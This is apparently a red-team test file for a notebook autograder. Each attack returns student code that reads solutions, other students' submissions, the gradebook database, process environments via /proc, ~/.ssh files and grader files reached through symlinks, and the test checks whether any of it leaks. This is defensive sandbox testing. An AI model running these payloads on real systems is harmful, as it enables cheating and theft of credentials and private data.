"""Reading what a student may not: attacks print or return what they read, and the test looks for its secrets in all outputs."""

from __future__ import annotations

import os
from pathlib import Path

from tests.red_team.attack import Desk, Handed, attack
from tests.red_team.target import WRONG, handed_in

# Prints what can be read of files, at most a few hundred of them.
_SHOW = """
import glob, os, sys
def show(*patterns):
    found = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]
    for path in found[:300]:
        try:
            with open(path, "rb") as file:
                print(path, file.read(20_000))
        except OSError:
            pass
"""


@attack()
def solved_notebook_in_a_folder_above(desk: Desk) -> Handed:
    """Looks for solved notebooks and solution scripts in the folders above, and runs the solution that it finds."""
    return """
import glob, json, os
for up in ("..", "../..", "../../..", "../../../..", os.environ.get("PWD", ".")):
    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/solutions/*/*/*.py"):
        text = open(path).read()
        print(text[:20000])
        if path.endswith(".ipynb"):
            for cell in json.loads(text)["cells"]:
                source = "".join(cell["source"])
                if "def doubled" in source:
                    exec(source)
"""


@attack()
def solutions_imported(desk: Desk) -> Handed:
    """Puts every folder above on the path and imports the lesson, its hidden checks and the reference from there."""
    return """
import importlib, os, sys
here = os.path.abspath(".")
while here != "/":
    sys.path += [here, f"{here}/solutions/week1/doubling", f"{here}/source/week1"]
    here = os.path.dirname(here)
for name in ("hidden", "lesson", "misconceptions", "solutions.week1.doubling.hidden", "solutions"):
    try:
        module = importlib.import_module(name)
        print(vars(module))
        doubled = getattr(module, "doubled", None)
    except BaseException as error:
        print(name, error)
if not callable(globals().get("doubled")):
    def doubled(x):
        return None
"""


@attack()
def work_of_another_student(desk: Desk) -> Handed:
    """Looks for other submissions and runs the answer that stands in one of them."""
    return """
import glob, json, os
for path in glob.glob("../../../submitted/*/*/*.ipynb"):
    for cell in json.loads(open(path).read())["cells"]:
        source = "".join(cell["source"])
        if "2.0 * np.asarray(x)" in source:
            exec(source)
        elif "is mine" in source:
            print(source)
if not callable(globals().get("doubled")):
    def doubled(x):
        return None
"""


@attack()
def gradebook(desk: Desk) -> Handed:
    """Looks for the gradebook and prints what is in it."""
    return (
        WRONG
        + """
import glob, sqlite3
for path in glob.glob("../../../*.db"):
    base = sqlite3.connect(path)
    for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
        print(table, base.execute(f"select * from {table}").fetchall()[:200])
"""
    )


@attack()
def environment(desk: Desk) -> Handed:
    """Prints the environment of its own process and of every other one."""
    return WRONG + _SHOW + "print(dict(os.environ))\nshow('/proc/[0-9]*/environ', '/proc/self/environ')\n"


@attack()
def home(desk: Desk) -> Handed:
    """Prints the files in the grader's home, by every name that leads there."""
    return (
        WRONG
        + _SHOW
        + """
import pwd
homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", *(user.pw_dir for user in pwd.getpwall())}
homes |= {f"/home/{name}" for name in (os.listdir("/home") if os.path.isdir("/home") else [])}
show(*(f"{home}/*.txt" for home in homes), *(f"{home}/.ssh/*" for home in homes))
"""
    )


@attack()
def processes_of_others(desk: Desk) -> Handed:
    """Follows what the system tells of other processes: command lines, open files, working and root directories."""
    return (
        WRONG
        + _SHOW
        + """
show("/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/*.py", "/proc/[0-9]*/root/tmp/*.txt")
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/exe"):
    try:
        print(link, os.readlink(link))
    except OSError:
        pass
parent = f"/proc/{os.getppid()}"
show(f"{parent}/cwd/solutions/*/*/hidden.py", f"{parent}/cwd/source/*/*.ipynb", f"{parent}/environ")
"""
    )


@attack()
def leftover_files(desk: Desk) -> Handed:
    """Prints whatever lies in the places where programs leave files."""
    return (
        WRONG
        + _SHOW
        + "show('/tmp/*', '/tmp/*/*', '/tmp/*/*/*.txt', '/dev/shm/*', '/var/tmp/**', '/run/user/*/*', '../*', '../../*')\n"
    )


@attack()
def link_to_a_secret_beside_the_notebook(desk: Desk) -> Handed:
    """Hands in links named like data files that lead to the grader's files, and prints what lies behind them."""
    answer = WRONG + _SHOW + "show('*.csv', '*.txt', '*.json')\n"
    links = {f"{name}.csv": target for name, target in _TARGETS.items()}
    return {"doubling.ipynb": handed_in(desk, answer), **{name: _link(target) for name, target in links.items()}}


_TARGETS = {
    "neighbour": "../../000-honest/week1/doubling.ipynb",
    "neighbour2": "../../a-before/week1/doubling.ipynb",
    "hidden": "../../../../solutions/week1/doubling/hidden.py",
    "source": "../../../source/week1/doubling.ipynb",
    "home": "../../../../../home/notes.txt",
    "home2": "../../../home/notes.txt",
}


def _link(target: str) -> object:
    def make(path: Path) -> None:
        os.symlink(target, path)

    return make


@attack()
def configuration_and_exchange(desk: Desk) -> Handed:
    """Prints nbgrader's configuration and what lies in its exchange and in Jupyter's folders."""
    return (
        WRONG
        + _SHOW
        + """
from jupyter_core.paths import jupyter_config_path, jupyter_data_dir, jupyter_path, jupyter_runtime_dir
show("../../../nbgrader_config.py", "/etc/jupyter/*", "/usr/local/share/nbgrader/**", "/srv/nbgrader/**")
show(*(f"{folder}/*" for folder in (*jupyter_config_path(), *jupyter_path(), jupyter_data_dir(), jupyter_runtime_dir())))
show("../../../home/notes.txt", "/proc/self/cwd/../../../home/notes.txt")
"""
    )
